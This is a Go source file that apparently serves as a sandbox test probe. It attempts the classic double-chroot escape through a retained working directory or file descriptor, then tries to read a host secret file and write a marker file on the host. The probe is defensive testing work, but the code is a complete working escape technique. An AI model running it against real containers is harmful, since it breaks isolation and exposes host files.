// Command doublechroot is an escape probe run in a RUN step: the classic
// chroot escape. It chroots into a subdirectory while its working
// directory (or a descriptor) stays outside it, climbs with "..", chroots
// there, and tries to read $HOSTDIR/secret and write $HOSTDIR/pwned-* on
// the host. It prints ESCAPED and exits 1 if it could; CONTAINED else.
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"syscall"
)

func main() {
	host := os.Getenv("HOSTDIR")
	if host == "" {
		fmt.Println("probe error: HOSTDIR unset")
		os.Exit(2)
	}
	if mode := os.Getenv("PROBE_CHILD"); mode != "" {
		os.Exit(escape(host, mode))
	}
	escaped := false
	// Each attempt in a child process: a chroot cannot be undone.
	for _, mode := range []string{"cwd", "fd"} {
		exe, _ := os.Executable()
		attr := &syscall.ProcAttr{Env: append(os.Environ(), "PROBE_CHILD="+mode), Files: []uintptr{0, 1, 2}}
		pid, err := syscall.ForkExec(exe, []string{exe}, attr)
		if err != nil {
			fmt.Println("probe error:", err)
			os.Exit(2)
		}
		var ws syscall.WaitStatus
		if _, err := syscall.Wait4(pid, &ws, 0, nil); err != nil || ws.ExitStatus() == 2 {
			fmt.Println("probe error: attempt", mode, "failed:", err)
			os.Exit(2)
		}
		escaped = escaped || ws.ExitStatus() == 1
	}
	if escaped {
		os.Exit(1)
	}
	fmt.Println("CONTAINED")
}

// escape makes one attempt; mode "cwd" keeps the working directory
// outside the new root, "fd" a descriptor on the old root. It returns 1 if
// it reached the host's files.
func escape(host, mode string) int {
	fd, err := syscall.Open("/", syscall.O_RDONLY|syscall.O_DIRECTORY, 0)
	if err != nil {
		fmt.Println("probe error:", err)
		return 2
	}
	os.MkdirAll("/esc", 0o755)
	if err := syscall.Chroot("/esc"); err != nil {
		fmt.Printf("%s: chroot /esc refused: %v\n", mode, err)
		return 0
	}
	if mode == "fd" {
		syscall.Fchdir(fd)
	}
	for i := 0; i < 64; i++ {
		syscall.Chdir("..")
	}
	if err := syscall.Chroot("."); err != nil {
		fmt.Printf("%s: second chroot refused: %v\n", mode, err)
		return 0
	}
	syscall.Chdir("/")
	data, err := os.ReadFile(filepath.Join(host, "secret"))
	if err != nil {
		ents, _ := os.ReadDir("/")
		names := []string{}
		for _, e := range ents {
			names = append(names, e.Name())
		}
		fmt.Printf("%s: landed in a root holding %v; the host's file is unreachable: %v\n", mode, names, err)
		return 0
	}
	werr := os.WriteFile(filepath.Join(host, "pwned-doublechroot-"+mode), []byte("escaped\n"), 0o644)
	fmt.Printf("ESCAPED (%s): read the host's %s (%d bytes); write: %v\n", mode, filepath.Join(host, "secret"), len(data), werr)
	return 1
}
